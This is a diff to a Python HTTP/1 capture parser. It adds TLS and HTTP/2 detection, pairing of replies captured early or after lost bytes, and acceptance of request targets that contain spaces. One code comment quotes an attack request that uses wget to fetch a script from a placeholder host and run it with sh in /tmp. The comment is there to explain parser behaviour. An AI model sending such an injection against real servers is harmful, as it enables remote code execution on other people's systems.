@@ -54,11 +54,17 @@ HTTP_bad_content_length            invalid, negative, > 2**63-1 or conflicting v
 HTTP_TE_and_CL                     Transfer-Encoding and Content-Length (TE wins)
 HTTP_bad_transfer_encoding         request TE whose last coding is not chunked
 HTTP_bad_header_line               field line without colon, or space before colon
+HTTP_space_in_target               request target with spaces (attack traffic): kept as sent
 HTTP_head_too_large                head or chunk line over HEAD_MAX bytes; resync
 HTTP_chunk_missing_crlf            chunk data not followed by CRLF; resync
 HTTP_content_gap                   a gap hit a head or chunk framing; resync
+HTTP_reply_before_request          the first answer was captured before its request
+HTTP_response_start_missing        server bytes that were no status line answered a
+                                     request: it gets no answer, the next ones pair right
 HTTP_truncated_head                the connection ended inside a message head
 HTTP_internal_error                a bug in this module (should never appear)
+TLS_not_decrypted                  the connection starts with TLS records: not read
+HTTP2_not_parsed                   HTTP/2 (preface, or h2c upgrade): not read further
 =================================  ==================================================
 """
 
@@ -76,6 +82,7 @@ HEAD_MAX = 64 * 1024  # bytes of one head or chunk line we are willing to buffer
 RESYNC_KEEP = 8 * 1024  # tail kept while scanning for a message start
 MAX_LINE = RESYNC_KEEP - 64  # longest request line resync can recognise
 MAX_PENDING = 100  # unanswered requests per connection (Zeek's default too)
+EARLY_NS = 10_000_000  # an answer captured up to 10 ms before its request is its answer (see _ahead_of)
 MAX_LENGTH = 2**63 - 1  # Content-Length and chunk sizes above this are overflow attempts
 
 Fields = tuple[tuple[str, str], ...]
@@ -172,12 +179,29 @@ class ParseError(Exception):
 
 _TOKEN = r"[!#$%&'*+.^_`|~0-9A-Za-z-]+"  # RFC 9110 §5.6.2
 _REQUEST_LINE = re.compile(rf"({_TOKEN}) ([^ ]+)(?: HTTP/([0-9]\.[0-9]))?")
+# Attack traffic sends targets with spaces ("GET /shell?cd+/tmp;wget+ http://x/a;sh HTTP/1.1")
+# and servers answer them: the target is all between the method and the version.
+_SPACED_REQUEST_LINE = re.compile(rf"({_TOKEN}) (.*[^ ].*) HTTP/([0-9]\.[0-9])")
 _STATUS_LINE = re.compile(r"HTTP/([0-9]\.[0-9]) ([0-9]{3})(?: (.*))?")
 # Resync patterns, on raw bytes; methods are upper case in practice, which
 # keeps random text from looking like a request.
 _STATUS_START = re.compile(rb"HTTP/1\.[0-9] [0-9]{3}[ \r\n]")
 _METHOD_TAIL = re.compile(rb"[A-Z][A-Z0-9_-]*\Z")
 _HEX_DIGITS = b"0123456789abcdefABCDEF"
+# What a connection's first bytes look like when it carries another protocol
+# than HTTP/1.x: a TLS record (content type 20-23, version 3.x; also mid-stream,
+# where application data records follow one another) and the HTTP/2 client
+# preface (RFC 9113 §3.4, prior knowledge). Read as HTTP/1 they make garbage
+# anomalies, or a "PRI *" request that was never one.
+# A handshake record must hold a ClientHello or ServerHello (type 1 or 2), and a
+# record is at most 2**14 + 2048 bytes long (RFC 8446 §5.2): a few bytes of
+# garbage that happen to begin with 0x16 0x03 are still read as HTTP.
+_TLS_RECORD = re.compile(
+    rb"\x16\x03[\x00-\x04][\x00-\x48].[\x01\x02]|[\x14\x15\x17]\x03[\x00-\x04][\x00-\x48]", re.DOTALL)
+H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+# A server's first HTTP/2 frame is SETTINGS (type 4, flags 0, stream 0), maybe
+# captured before the client's preface.
+_H2_SETTINGS = re.compile(rb"\x00[\x00-\x01].\x04\x00\x00\x00\x00\x00", re.DOTALL)
 # An HTTP/0.9 request line has no version, so anything "word word" would pass:
 # require a method a client could have meant (Zeek only asks for 3 letters).
 _SIMPLE_METHODS = frozenset(
@@ -321,6 +345,23 @@ def _chunk_size(line: bytes) -> int:
 
 # ---------------------------------------------------------------------------
 # Heads: start lines and field lines.
+
+
+def _other_protocol(data: bytes, pos: int) -> str | None:
+    """The protocol that a connection's first bytes show, if it is not HTTP/1.x."""
+    if _TLS_RECORD.match(data, pos):
+        return "TLS"
+    if data.startswith(H2_PREFACE[: max(4, min(len(data) - pos, len(H2_PREFACE)))], pos):
+        return "HTTP/2"
+    if _H2_SETTINGS.match(data, pos):
+        return "HTTP/2"
+    return None
+
+
+def _upgrades_to_h2c(tx: _Tx) -> bool:
+    """A 101 that switched to cleartext HTTP/2 (RFC 7540 §3.2): its Upgrade says h2c."""
+    fields = tx.response_headers or tx.request_headers
+    return any(name.lower() == "upgrade" and "h2c" in value.lower() for name, value in fields)
 
 
 def _head_lines(head: bytes, warn: Warn) -> list[str]:
@@ -520,7 +561,7 @@ class _Reader:
         self.conn = conn
         self.direction = direction
         self.state = State.HEAD
-        self._step: Callable[[bytes], None] = self._read_head
+        self._step: Callable[[bytes], None] = self._read_first
         self.buf = bytearray()  # a head or line not complete yet; resync tail
         self.pos = 0  # position in the chunk being fed
         self.ts = 0  # ts_ns and frame of the current event, for anomalies
@@ -637,6 +678,21 @@ class _Reader:
         while self.pos < n:
             self._step(data)
 
+    def _read_first(self, data: bytes) -> None:
+        """This direction's first bytes: is the connection HTTP/1 at all?"""
+        conn = self.conn
+        if not conn._count and len(data) - self.pos == 1 and data[self.pos] == 0:
+            # A Windows keep-alive probe (one garbage byte, 0, at the next byte - 1) as the first
+            # segment of a direction picked up mid-stream: the TCP stage cannot tell it from data.
+            self.pos = len(data)
+            return
+        self._step = self._read_head
+        if not conn._count and (protocol := _other_protocol(data, self.pos)):
+            self.pos = len(data)
+            conn._not_http(self, protocol)
+            return
+        self._read_head(data)
+
     def _read_head(self, data: bytes) -> None:
         buf = self.buf
         remember = False  # whether the head may be remembered for the next one
@@ -706,17 +762,28 @@ class _Reader:
         except ParseError as e:
             # A bad start line may hide a real message start on a later line
             # ("junk" then "HTTP/1.1 200 OK"): look again from the next line.
-            # (A head always ends with LF, so there is one to find.)
-            e.rescan = raw[raw.find(b"\n", start, end) + 1 : end]
+            # (A head always ends with LF, so there is one to find.) Or on the
+            # same line, after a binary prefix (a SOCKS handshake, then GET).
+            lf = raw.find(b"\n", start, end)
+            inner = self._start_inside(raw[start + 1 : lf]) if e.name.startswith("bad_HTTP") else -1
+            e.rescan = raw[(start + 1 + inner if inner >= 0 else lf + 1) : end]
             raise
+
+    def _start_inside(self, line: bytes) -> int:
+        """Where a message starts inside a rejected start line, or -1."""
+        return self._find_start(line, 0)
 
     def _parse_lines(self, lines: list[str]) -> _Head:
         """A head's start line, parsed, and fields; raises ParseError for a bad start line."""
         line = lines[0]
         known = self.start_lines
-        start = known.get(line) or _remember(known, line, self.parse_start_line(line))
+        start = known.get(line) or self._start_line(line)
         fields, framing = _fields(lines[1:], self._warn)
         return line, start, fields, framing
+
+    def _start_line(self, line: str) -> tuple:
+        """A start line not seen lately, parsed and remembered."""
+        return _remember(self.start_lines, line, self.parse_start_line(line))
 
     def _check_head_size(self) -> None:
         if len(self.buf) > HEAD_MAX:
@@ -934,6 +1001,27 @@ class _RequestReader(_Reader):
         self.paused_size = 0
         self.waiting_for: _Tx | None = None
 
+    def _start_line(self, line: str) -> tuple:
+        try:
+            return _Reader._start_line(self, line)
+        except ParseError:
+            m = _SPACED_REQUEST_LINE.fullmatch(line)
+            if m is None:
+                raise
+        # Not remembered: the anomaly is due each time.
+        self._warn("HTTP_space_in_target", line[:80])
+        return m.groups()
+
+    def _start_inside(self, line: bytes) -> int:
+        # Only a method a client means (a bare "T" in "G(T / HTTP/1.1" is no request), and
+        # "PGET" after a SOCKS port 80 (0x00 0x50) is GET.
+        i = self._find_start(line, 0)
+        if i < 0:
+            return -1
+        word = line[i : line.find(b" ", i)].decode("latin-1")
+        known = next((m for m in _SIMPLE_METHODS if word.endswith(m)), None)
+        return -1 if known is None else i + len(word) - len(known)
+
     def _head_end(self, buf: bytes | bytearray, start: int) -> int:
         lf = buf.find(b"\n", start)
         if lf < 0:
@@ -946,7 +1034,8 @@ class _RequestReader(_Reader):
         _, (method, target, version), fields, _ = head
         if version != self.version:
             self._check_version(version)
-        tx = self.conn._new_tx(self)
+        conn = self.conn
+        tx = (conn._early is not None and conn._ahead_of(self.head_ts)) or conn._new_tx(self)
         tx.method, tx.uri, tx.version, tx.request_headers = method, target, version, fields
         tx.start_ns[ORIG], tx.start_frame[ORIG] = self.head_ts, self.head_frame
         return tx
@@ -1026,11 +1115,13 @@ class _RequestReader(_Reader):
 
 
 class _ResponseReader(_Reader):
-    __slots__ = ()
+    __slots__ = ("lost_since",)
 
     def __init__(self, conn: HttpConnection) -> None:
         super().__init__(conn, RESP)
         self.parse_start_line, self.start_lines = _status_line, _STATUS_LINES
+        # When server bytes that are no status line began (see HttpConnection._realign).
+        self.lost_since: int | None = None
 
     def _read_head(self, data: bytes) -> None:
         awaiting = self.conn._awaiting
@@ -1066,7 +1157,10 @@ class _ResponseReader(_Reader):
         if version != self.version:
             self._check_version(version)
         conn = self.conn
-        tx = conn._awaiting[0] if conn._awaiting else conn._unmatched_reply(self, line)
+        if self.lost_since is not None:
+            conn._realign(self.lost_since)
+            self.lost_since = None
+        tx = conn._awaiting[0] if conn._awaiting else conn._unmatched_reply(self, line, status)
         if 100 <= status < 200 and status != 101:
             tx.interim += (status,)  # the final answer follows (RFC 9110 §15.2)
             return None
@@ -1150,8 +1244,11 @@ class HttpConnection:
         self._txs: deque[_Tx] = deque()  # every exchange not handed out yet, in order
         self._awaiting: deque[_Tx] = deque()  # requests whose final answer has not begun
         self._count = 0
+        self._early: _Tx | None = None  # an answer that may have been captured before its request
+        self._dropped = 0  # exchanges that were only a place kept for lost bytes (see exchanges())
         self._server_done: str | None = None  # how RESP ended, once it has
         self._tunnel = False
+        self.protocol = "HTTP/1"  # or "TLS", "HTTP/2": what _not_http() found instead
         self._request = _RequestReader(self)
         self._readers: tuple[_Reader, _Reader] = (self._request, _ResponseReader(self))
 
@@ -1177,6 +1274,8 @@ class HttpConnection:
             self._feed_after(reader, data, e)
 
     def gap(self, direction: int, size: int, ts_ns: int, frame: int) -> None:
+        if self._early is not None and direction == ORIG:
+            self._settle_early(self._early)
         reader = self._readers[direction]
         reader.ts = reader.data_ts = ts_ns
         reader.frame = frame
@@ -1186,6 +1285,8 @@ class HttpConnection:
             self._recover(reader, e)
 
     def end(self, direction: int, how: str, ts_ns: int, frame: int) -> None:
+        if self._early is not None and direction == ORIG:
+            self._settle_early(self._early)
         reader = self._readers[direction]
         reader.ts, reader.frame = ts_ns, frame  # data_ts stays the last byte's
         try:
@@ -1205,13 +1306,19 @@ class HttpConnection:
         finished = []
         while txs and txs[0].done[ORIG] and txs[0].done[RESP]:
             tx = txs.popleft()
+            # A place kept for a request lost in a gap whose answer was lost too says
+            # nothing: an exchange needs a request or a response. Later ones move up.
+            if tx.method is None and tx.status is None:
+                self._dropped += 1
+                continue
+            tx.index -= self._dropped
             finished.append(tx.freeze(self.conn_id, tx.ended or "complete"))
         return finished
 
     def pending(self) -> list[Exchange]:
         """Snapshots of the exchanges not finished yet (for a live view)."""
-        return [tx.freeze(self.conn_id, tx.ended or "open")
-                for tx in self._txs if not (tx.done[ORIG] and tx.done[RESP])]
+        return [tx.freeze(self.conn_id, tx.ended or "open") for tx in self._txs
+                if not (tx.done[ORIG] and tx.done[RESP]) and (tx.method or tx.status is not None)]
 
     @property
     def tunnel(self) -> bool:
@@ -1244,6 +1351,8 @@ class HttpConnection:
         """Record what went wrong and resync; False if the rest of the data must go."""
         if isinstance(error, ParseError):
             self._anomaly(error.name, reader.frame, reader.ts, error.detail)
+            if error.name == "bad_HTTP_reply" and reader.direction == RESP:
+                reader.lost_since = reader.head_ts  # type: ignore[attr-defined]
             reader.resync()
             return True
         # A bug of ours: a capture must never crash the pipeline, but say so.
@@ -1280,11 +1389,57 @@ class HttpConnection:
         victim.done[RESP] = True
         reader._warn("HTTP_excessive_pipelining", f"over {MAX_PENDING} requests unanswered")
 
-    def _unmatched_reply(self, reader: _Reader, status_line: str) -> _Tx:
-        reader._warn("unmatched_HTTP_reply", status_line[:80])
+    def _realign(self, since: int) -> None:
+        """The server sent bytes that were no status line from ``since`` on, and a status line now.
+
+        If the oldest waiting request was sent before those bytes and the next one after them,
+        they were the oldest's answer, its start lost (a capture joined mid-stream, a hole the
+        TCP stage could not see): a client sends its next request once the answer is in. Pairing
+        this status line with the oldest would shift every later answer by one.
+        """
+        awaiting = self._awaiting
+        if len(awaiting) < 2:
+            return
+        first, second = awaiting[0].start_ns[ORIG], awaiting[1].start_ns[ORIG]
+        if first is not None and second is not None and first <= since < second:
+            tx = awaiting.popleft()
+            tx.cut("gap")
+            tx.done[RESP] = True
+            self._readers[RESP]._warn("HTTP_response_start_missing",
+                                      f"answer to request {tx.index} not recognised")
+
+    def _unmatched_reply(self, reader: _Reader, status_line: str, status: int) -> _Tx:
         tx = self._new_tx(reader)
+        request = self._request
+        if tx.index == 1 and request.version is None and request.state is _S_HEAD and status != 408:
+            # The first message of a connection whose client has not spoken yet (nor ended): on a capture
+            # joined mid-stream, mirrors of the two directions can put an answer a little ahead
+            # of its request, and the TCP stage, having seen no client segment, cannot hold it
+            # back. The client's next head tells (_ahead_of). A 408 is never an answer.
+            self._early = tx
+            return tx
+        reader._warn("unmatched_HTTP_reply", status_line[:80])
         tx.done[ORIG] = True
         return tx
+
+    def _ahead_of(self, ts_ns: int) -> _Tx | None:
+        """The early answer, if the request whose head began at ``ts_ns`` is what it answered."""
+        tx, self._early = self._early, None
+        assert tx is not None
+        start = tx.start_ns[RESP]
+        if start is not None and ts_ns - start <= EARLY_NS:
+            self._readers[ORIG]._warn("HTTP_reply_before_request",
+                                      f"captured {(ts_ns - start) / 1000:.0f} us before its request")
+            return tx
+        self._settle_early(tx)
+        return None
+
+    def _settle_early(self, tx: _Tx) -> None:
+        """An early answer turned out to have no request: an unmatched reply after all."""
+        self._early = None
+        self._anomaly("unmatched_HTTP_reply", tx.start_frame[RESP] or 0, tx.start_ns[RESP] or 0,
+                      f"{tx.status} {tx.reason}"[:80])
+        tx.done[ORIG] = True
 
     def _answered(self, tx: _Tx) -> None:
         """A final answer began; a client paused on it may go on."""
@@ -1299,13 +1454,29 @@ class HttpConnection:
                 other.cut("tunnel")
                 other.done[ORIG] = other.done[RESP] = True
         self._awaiting.clear()
+        self._early = None
         self._tunnel = True
+        if tx.status == 101 and _upgrades_to_h2c(tx):
+            self.protocol = "HTTP/2"
+            self._readers[RESP]._warn("HTTP2_not_parsed", "upgrade to h2c")
         self._request._drop_paused()
         for reader in self._readers:
             reader.tx = None
             reader.buf.clear()
             if reader.state is not State.CLOSED:
                 reader._goto(State.TUNNEL)
+
+    def _not_http(self, reader: _Reader, protocol: str) -> None:
+        """The connection carries ``protocol``, not HTTP/1.x: say so once, read no further."""
+        self.protocol = protocol
+        if protocol == "TLS":
+            reader._warn("TLS_not_decrypted", "")
+        else:
+            reader._warn("HTTP2_not_parsed", "prior knowledge")
+        for other in self._readers:
+            if other.state not in _FINAL:
+                other.buf.clear()
+                other._goto(State.TUNNEL)
 
     def _server_closed(self, cut: str) -> None:
         """RESP ended: every request still waiting will get no answer."""
